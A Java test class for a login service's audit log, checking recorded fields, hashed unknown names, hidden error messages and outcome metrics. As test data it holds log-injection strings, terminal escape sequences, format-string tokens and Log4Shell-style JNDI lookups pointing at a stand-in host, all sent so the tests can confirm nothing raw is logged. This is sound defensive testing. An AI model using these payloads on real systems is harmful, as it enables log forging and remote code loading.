package dev.latchkey.login;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.latchkey.RecordedLog;
import dev.latchkey.TestDirectory;
import dev.latchkey.http.RawHttp;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.regex.Pattern;
import org.eclipse.microprofile.config.ConfigProvider;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the log tells of logins, and what it never does. */
@QuarkusTest
class AuditTest {

  private static final String PASSWORD = LoginContract.PASSWORD;

  /** Stands in everything hostile, to be looked for. */
  private static final String MARK = "hunter2";

  private final RecordedLog log = new RecordedLog();

  @ConfigProperty(name = "quarkus.datasource.jdbc.url")
  String url;

  @ConfigProperty(name = "quarkus.datasource.username")
  String databaseUser;

  @ConfigProperty(name = "quarkus.datasource.password")
  String databasePassword;

  private TestDirectory directory;
  private TestDirectory.Org org;

  @BeforeEach
  void emptyOrganization() {
    directory = new TestDirectory(url, databaseUser, databasePassword);
    org = directory.org("audit.example");
  }

  @AfterEach
  void release() {
    log.close();
  }

  // --- what it tells

  @Test
  void success_tellsWhoWhereAndHowLong() throws Exception {
    var id = org.user("jane").hash(LoginContract.HASH).save("jane");

    assertThat(login("AUDIT.example", "JANE", PASSWORD, "X-Request-Id: id-1")).isEqualTo(200);

    var event = log.nextAudit();
    assertThat(event.fieldNames())
        .toIterable()
        .containsExactlyInAnyOrder(
            "requestId", "outcome", "organization", "user", "client", "durationMs");
    assertThat(event.get("requestId").asText()).isEqualTo("id-1");
    assertThat(event.get("outcome").asText()).isEqualTo("success");
    assertThat(event.get("organization").asText()).isEqualTo("audit.example");
    assertThat(event.get("user").asText()).isEqualTo(id.toString());
    assertThat(event.get("client").asText()).isIn("127.0.0.1", "::1");
    assertThat(event.get("durationMs").asText()).matches("\\d{1,5}");
    assertThat(log.texts())
        .last()
        .asString()
        .matches(
            "\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d,\\d{3} INFO  \\[audit\\] \\(\\S+\\) id-1"
                + " login outcome=success organization=audit.example user="
                + id
                + " client=(127.0.0.1|::1) durationMs=\\d+\\R");
  }

  @Test
  void everyOutcomeOfCredentials_hasItsTrueReason() throws Exception {
    org.user("right").hash(LoginContract.HASH).save();
    org.user("temporary").hash(LoginContract.HASH).with("change_password", true).save();
    org.user("none").save();
    org.user("damaged").hash("$2x$" + LoginContract.HASH.substring(4)).save();
    org.user("disabled").hash(LoginContract.HASH).with("status", "disabled").save();
    org.user("expired")
        .hash(LoginContract.HASH)
        .with("status", "invited")
        .with("invite_expires_at", Instant.now().minusSeconds(1))
        .save();

    assertThat(outcome(200, "right", PASSWORD)).isEqualTo("success");
    assertThat(outcome(200, "temporary", PASSWORD)).isEqualTo("limited");
    assertThat(outcome(401, "right", "wrong")).isEqualTo("wrong_password");
    assertThat(outcome(401, "disabled", "wrong")).isEqualTo("wrong_password");
    assertThat(outcome(401, "disabled", PASSWORD)).isEqualTo("disabled");
    directory.lock(org.user("locked").hash(LoginContract.HASH).save());
    assertThat(outcome(401, "locked", "wrong")).isEqualTo("wrong_password");
    assertThat(outcome(401, "locked", PASSWORD)).isEqualTo("locked");
    assertThat(outcome(401, "expired", PASSWORD)).isEqualTo("invitation_expired");
    assertThat(outcome(401, "none", PASSWORD)).isEqualTo("no_password");
    assertThat(outcome(401, "damaged", PASSWORD)).isEqualTo("damaged_hash");
    assertThat(outcome(401, "nobody", PASSWORD)).isEqualTo("unknown_user");
    assertThat(log.hasAudit()).isFalse();
  }

  @Test
  void nameThatIsNobodys_isAHash() throws Exception {
    org.user("jane").hash(LoginContract.HASH).save();

    var first = event(401, org.domain, "nobody", PASSWORD);
    var sameInOtherCase = event(401, org.domain, "NoBody", PASSWORD);
    var other = event(401, org.domain, "nobody2", PASSWORD);
    var somebody = event(401, org.domain, "jane", "wrong");

    assertThat(first.get("nameHash").asText())
        .matches("[0-9a-f]{16}")
        .isEqualTo(sameInOtherCase.get("nameHash").asText())
        .isNotEqualTo(other.get("nameHash").asText());
    assertThat(first.has("user")).isFalse();
    assertThat(somebody.has("nameHash")).isFalse();
    assertThat(somebody.has("user")).isTrue();
  }

  @Test
  void organisationThatDoesNotExist_isNotNamed() throws Exception {
    var event = event(404, "nowhere.example", "jane", PASSWORD);

    assertThat(event.get("outcome").asText()).isEqualTo("unknown_organization");
    assertThat(event.fieldNames())
        .toIterable()
        .containsExactlyInAnyOrder("requestId", "outcome", "nameHash", "client", "durationMs");
    org.suspend();
    assertThat(event(404, org.domain, "jane", PASSWORD).get("outcome").asText())
        .isEqualTo("unknown_organization");
  }

  @Test
  void malformedBody_isAnAttemptOfWhichNothingIsKnown() throws Exception {
    assertThat(post(org.domain, "{\"username\":\"" + MARK, "")).isEqualTo(400);

    var event = log.nextAudit();
    assertThat(event.get("outcome").asText()).isEqualTo("malformed");
    assertThat(event.fieldNames())
        .toIterable()
        .containsExactlyInAnyOrder("requestId", "outcome", "client", "durationMs");
    assertThatNothingIsRaw();
  }

  @Test
  void tooManyAttempts_tellTheHashOfTheName() throws Exception {
    org.user("jane-5").hash(LoginContract.HASH).save();
    for (int i = 0; i < 5; i++) {
      outcome(401, "jane-5", "wrong");
    }
    directory.awaitFailures("jane-5", 5);
    outcome(429, "jane-5", "wrong"); // now the process knows it

    var event = event(429, org.domain, "jane-5", PASSWORD);
    assertThat(event.get("outcome").asText()).isEqualTo("too_many_attempts");
    assertThat(event.has("nameHash")).isTrue(); // nobody asked who it is
  }

  @Test
  void requestThatIsNoLogin_isNoAttempt() throws Exception {
    assertThat(exchange("GET /v1/audit.example/auth/login HTTP/1.1\r\nHost: x\r\n\r\n"))
        .isEqualTo(405);
    assertThat(post(org.domain, "x".repeat(8193), "")).isEqualTo(413);
    assertThat(post(org.domain, "{}", "Accept: text/html")).isEqualTo(406);

    assertThat(log.hasAudit()).isFalse();
  }

  @Test
  void failure_isToldWithoutItsMessage() throws Exception {
    org.user("jane").hash(LoginContract.HASH).save();
    directory.execute("alter table login_names rename to hunter2");
    directory.execute(
        "create view login_names as select organization_id, name_key,"
            + " case when 1 / (length(name_key) - length(name_key)) = 0 then user_id end as user_id"
            + " from hunter2");
    JsonNode event;
    try {
      event = event(500, org.domain, "jane", PASSWORD);
    } finally {
      directory.execute("drop view login_names");
      directory.execute("alter table hunter2 rename to login_names");
    }

    assertThat(event.get("outcome").asText()).isEqualTo("failed");
    assertThat(log.texts())
        .filteredOn(line -> line.contains("ERROR"))
        .singleElement()
        .asString()
        .contains("Request " + event.get("requestId").asText() + " failed")
        .contains("java.sql.SQLException: SQLSTATE 22012")
        .contains("\tat ")
        .doesNotContain("login_names", "division");
    assertThat(outcome(200, "jane", PASSWORD)).isEqualTo("success");
  }

  // --- a caller who hangs up

  @Test
  void callerWhoHangsUpWhileThePasswordIsChecked_hasUsedAnAttempt() throws Exception {
    org.user("hangs-up").hash(Hashes.of(PASSWORD, 12)).save();

    for (int i = 0; i < 5; i++) {
      hangUpOnceHashing("hangs-up");
      assertThat(log.nextAudit().get("outcome").asText()).isEqualTo("hung_up");
    }
    directory.awaitFailures("hangs-up", 5);

    assertThat(outcome(429, "hangs-up", PASSWORD)).isEqualTo("too_many_attempts");
  }

  private void hangUpOnceHashing(String name) throws IOException {
    double before = metric("latchkey_password_wait_seconds_count");
    try (var connection = new RawHttp()) {
      connection.send(request(org.domain, body(name, PASSWORD), ""));
      var limit = Instant.now().plusSeconds(20);
      while (metric("latchkey_password_wait_seconds_count") == before) {
        assertThat(Instant.now()).isBefore(limit);
      }
    }
  }

  // --- what it never tells

  @ParameterizedTest
  @ValueSource(
      strings = {
        "hunter2\\n2026-01-01 00:00:00,000 INFO  [audit] (main) x login outcome=success",
        "hunter2\\r\\n{\\\"loggerName\\\":\\\"audit\\\"}",
        "\\u001b[2J\\u001b[31mhunter2\\u001b]0;title\\u0007",
        "\\u009b31mhunter2\\u0085\\u2028\\u2029",
        "{\\\"hunter2\\\":[1,2]}",
        "hunter2\\\",\\\"outcome\\\":\\\"success",
        "%s%n%x %X{requestId} hunter2",
        "{0} {} ${hunter2} ${jndi:ldap://hunter2.example/x}",
        "hunter2 outcome=success user=root",
        "\\u202ehunter2\\u0008\\u007f",
      })
  void hostileName_reachesNoLine(String name) throws Exception {
    for (String domain : List.of(org.domain, "nowhere.example")) {
      post(domain, "{\"username\":\"" + name + "\",\"password\":\"" + name + "\"}", "");

      assertThat(log.nextAudit().get("nameHash").asText()).matches("[0-9a-f]{16}");
    }
    assertThatNothingIsRaw();
  }

  @Test
  void longName_reachesNoLine() throws Exception {
    var tenKilobytes = MARK.repeat(10 * 1024 / MARK.length());

    assertThat(post(org.domain, body(tenKilobytes, PASSWORD), "")).isEqualTo(413);
    assertThat(post(org.domain, body(tenKilobytes.substring(0, 7000), PASSWORD), ""))
        .isEqualTo(400);
    assertThat(post(org.domain, body(tenKilobytes.substring(0, 254), PASSWORD), "")).isEqualTo(401);

    assertThat(log.nextAudit().get("outcome").asText()).isEqualTo("malformed");
    assertThat(log.nextAudit().get("outcome").asText()).isEqualTo("unknown_user");
    assertThat(log.hasAudit()).isFalse();
    assertThatNothingIsRaw();
  }

  @ParameterizedTest
  @CsvSource({
    "hunter2,          404",
    "hunter2%0Aforged, 404",
    "hunter2%1B,       404",
    "hunter2%1B[31m,   400",
    "%22hunter2%22:,   404",
    "hunter2%00,       404",
    "${hunter2},       400"
  })
  void hostileOrganisation_reachesNoLine(String domain, int status) throws Exception {
    assertThat(post(domain, body("jane", PASSWORD), "")).isEqualTo(status);

    if (status == 404) { // a path that is malformed is no attempt
      assertThat(log.nextAudit().get("outcome").asText()).isEqualTo("unknown_organization");
    }
    assertThat(log.hasAudit()).isFalse();
    assertThatNothingIsRaw();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "X-Request-Id: hunter2 outcome=success",
        "X-Request-Id: \"hunter2\"",
        "X-Request-Id: \u001b[31mhunter2",
        "X-Forwarded-For: hunter2, 203.0.113.9",
        "X-Forwarded-For: 203.0.113.9\u001b[31mhunter2",
        "Forwarded: for=\"_hunter2\";for=\"{\\\"x\\\":1}\"",
        "User-Agent: hunter2 ${jndi:ldap://x}",
        "Referer: https://hunter2.example/?a=\u001b[0m",
        "Referer: https://hunter2.example/?a=%1B[0m",
        "hunter2: hunter2",
      })
  void hostileHeader_reachesNoLine(String header) throws Exception {
    org.user("jane").hash(LoginContract.HASH).save();
    boolean isRead = header.chars().noneMatch(Character::isISOControl); // others are a 400

    assertThat(post(org.domain, body("jane", PASSWORD), header)).isEqualTo(isRead ? 200 : 400);
    assertThat(post(org.domain, body("jane", MARK), header)).isEqualTo(isRead ? 401 : 400);

    for (int attempts = isRead ? 2 : 0; attempts > 0; attempts--) {
      var event = log.nextAudit();
      assertThat(event.get("client").asText()).isIn("127.0.0.1", "::1");
      assertThat(UUID.fromString(event.get("requestId").asText())).isNotNull();
    }
    assertThat(log.hasAudit()).isFalse();
    assertThatNothingIsRaw();
  }

  /** In either format: nothing of the mark, no control character, and one line for one event. */
  private void assertThatNothingIsRaw() {
    assertThat(log.texts())
        .hasSameSizeAs(log.objects())
        .noneMatch(line -> line.contains(MARK))
        .allMatch(line -> line.strip().lines().count() == 1)
        .allMatch(line -> line.strip().chars().noneMatch(Character::isISOControl))
        .allMatch(
            line -> line.matches("\\d{4}-\\d\\d-\\d\\d [\\d:,]+ [A-Z]+ +\\[\\S+\\] \\(.*\\R"));
    assertThat(log.objects())
        .noneMatch(line -> line.contains(MARK))
        .allMatch(line -> line.strip().lines().count() == 1)
        .allSatisfy(line -> assertThat(RecordedLog.parse(line).isObject()).isTrue());
  }

  // --- and it counts

  @Test
  void attempts_areCountedByOutcome() throws Exception {
    org.user("jane").hash(LoginContract.HASH).save();
    var before = counts();

    outcome(401, "jane", "wrong");
    outcome(401, "nobody", "wrong");
    outcome(200, "jane", PASSWORD);

    var counted = counts();
    before.forEach((outcome, count) -> counted.merge(outcome, -count, Double::sum));
    counted.values().removeIf(count -> count == 0);
    assertThat(counted).isEqualTo(Map.of("denied", 2.0, "success", 1.0));
  }

  /** How often each outcome was counted. */
  private static Map<String, Double> counts() {
    var counts = new TreeMap<String, Double>();
    var series = Pattern.compile("latchkey_logins_total\\{outcome=\"(\\w+)\"} (\\S+)");
    series
        .matcher(metrics())
        .results()
        .forEach(found -> counts.put(found.group(1), Double.parseDouble(found.group(2))));
    return counts;
  }

  // --- how

  private String outcome(int status, String name, String password) throws Exception {
    return event(status, org.domain, name, password).get("outcome").asText();
  }

  private JsonNode event(int status, String domain, String name, String password) throws Exception {
    assertThat(login(domain, name, password, "")).isEqualTo(status);
    return log.nextAudit();
  }

  private static int login(String domain, String name, String password, String header)
      throws IOException {
    return post(domain, body(name, password), header);
  }

  private static String body(String name, String password) {
    return "{\"username\":\"" + name + "\",\"password\":\"" + password + "\"}";
  }

  private static int post(String domain, String body, String header) throws IOException {
    return exchange(request(domain, body, header));
  }

  private static String request(String domain, String body, String header) {
    return "POST /v1/"
        + domain
        + "/auth/login HTTP/1.1\r\nHost: x\r\n"
        + (header.isEmpty() ? "" : header + "\r\n")
        + "Content-Type: application/json\r\nContent-Length: "
        + body.getBytes(StandardCharsets.ISO_8859_1).length
        + "\r\n\r\n"
        + body;
  }

  private static int exchange(String request) throws IOException {
    return RawHttp.exchange(request).status();
  }

  private static double metric(String series) {
    return metrics()
        .lines()
        .filter(line -> line.startsWith(series + " "))
        .mapToDouble(line -> Double.parseDouble(line.substring(series.length() + 1)))
        .sum();
  }

  private static String metrics() {
    int port = ConfigProvider.getConfig().getValue("quarkus.management.test-port", Integer.class);
    return RestAssured.given().port(port).get("/q/metrics").asString();
  }
}
